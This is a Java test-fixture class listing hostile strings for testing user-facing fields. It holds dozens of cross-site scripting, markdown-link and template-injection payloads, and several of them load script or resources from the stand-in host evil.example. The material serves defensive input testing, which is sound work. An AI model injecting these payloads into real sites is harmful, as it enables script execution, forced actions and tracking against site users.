package streethub.testing;

import java.util.List;

/** What people type who mean harm: for every field that is shown to somebody. */
public final class NastyTexts {

    private static final int MOST_TAG = 20;

    private static final List<String> ALL = List.of(
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><style><img src=x onerror=alert(1)></style>",
            "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<iframe srcdoc='<script>alert(1)</script>'>",
            "<body onload=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"http://x\" onclick=\"alert(1)\">x</a>",
            "<form action=/logout><button>x</button></form>",
            "<base href=//evil.example/>",
            "<link rel=stylesheet href=//evil.example>",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
            "<style>*{background:url(//evil.example)}</style>",
            "<!--><img src=x onerror=alert(1)>-->",
            "<![CDATA[<img src=x onerror=alert(1)>]]>",
            "<template><script>alert(1)</script></template>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java\tscript:alert(1))",
            "[x](&#106;avascript:alert(1))",
            "[x](\u0001javascript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](vbscript:msgbox(1))",
            "[x](/logout)",
            "[x](//evil.example)",
            "[x](http://a.example/\"onmouseover=\"alert(1))",
            "[x](<http://a.example/ onmouseover=alert(1)>)",
            "[x](http://a.example 'title\" onmouseover=\"alert(1)')",
            "![x](http://evil.example/pixel.png)",
            "![x](javascript:alert(1))",
            "<javascript:alert(1)>",
            "<http://a.example/\"><script>alert(1)</script>",
            "http://a.example/\"><script>alert(1)</script>",
            "http://a.example/?q=<script>alert(1)</script>",
            "www.a.example/'onclick='alert(1)",
            "mailto:a@b.example",
            "`<script>alert(1)</script>`",
            "    <script>alert(1)</script>",
            "```html\n<script>alert(1)</script>\n```",
            "> <script>alert(1)</script>",
            "- <img src=x onerror=alert(1)>",
            "**<img src=x onerror=alert(1)>**",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)&#60;/script&#62;",
            "{{constructor.constructor('alert(1)')()}} ${7*7} #{7*7} <%= 7*7 %>",
            "\u2028<script>alert(1)</script>\u2029",
            "\ufeff<script>alert(1)</script>",
            "＜script＞alert(1)＜/script＞",
            "# h\n## h\n---\n| a | b |\n|---|---|\n| <script>alert(1)</script> | x |");

    private NastyTexts() {}

    /** All of it. */
    public static List<String> all() {
        return ALL;
    }

    /** What a title, a name or a reason takes of it: no control characters. */
    public static List<String> lines() {
        return ALL.stream()
                .map(typed -> typed.replaceAll("\\p{Cntrl}+", " ").strip())
                .toList();
    }

    /** What a tag or a choice takes of it: twenty characters. */
    public static List<String> tags() {
        return lines().stream()
                .map(typed -> typed.length() <= MOST_TAG ? typed : typed.substring(0, MOST_TAG))
                .map(String::strip)
                .filter(typed -> !typed.replace("#", "").isBlank())
                .distinct()
                .toList();
    }
}
